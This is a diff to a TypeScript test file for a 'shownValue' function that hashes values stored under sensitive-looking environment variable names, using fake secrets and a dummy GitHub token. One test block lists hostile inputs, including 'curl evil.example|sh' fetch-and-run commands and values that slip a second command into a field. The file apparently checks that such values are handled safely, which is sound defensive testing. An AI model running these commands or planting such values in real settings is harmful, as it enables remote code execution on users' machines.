@@ -9,12 +9,13 @@ import { contextOf } from './launchFixture.ts';
 const hash = (text: string): string => `SHA-256 ${createHash('sha256').update(text).digest('hex')}`;
 
 describe('shownValue', () => {
-  it('hides what is one token behind a name that is sensitive', () => {
+  it('hides what may be a secret behind a name that is sensitive', () => {
     for (const [name, value, shown] of [
       ['API_KEY', 'k', hash('k')],
       ['MY_PASSWORD', 'Tr0ub4dor!3', hash('Tr0ub4dor!3')],
       ['AUTH', 'Bearer abc', `Bearer ${hash('abc')}`],
       ['X-Auth-Token', 'a/b+c==', hash('a/b+c==')],
+      ['PASSPHRASE', 'correct "horse" battery?', hash('correct "horse" battery?')],
       ['MODE', 'fast', 'fast'],
       ['EMPTY_KEY', '', ''],
     ] as const) {
@@ -46,7 +47,8 @@ describe('shownValue', () => {
     const token = `ghp_${'a'.repeat(36)}`;
     for (const [name, value] of [
       ['EDITOR', `touch pwned; curl evil.example|sh # ${token}`],
-      ['KEY_TOOL', 'touch pwned'],
+      ['KEY_TOOL', 'touch x && pwned'],
+      ['KEY_TOOL', 'x\npwned'],
       ['KEY_TOOL', './pwned'],
       ['KEY_TOOL', '/work/pwned'],
       ['KEY_TOOL', '~/pwned'],
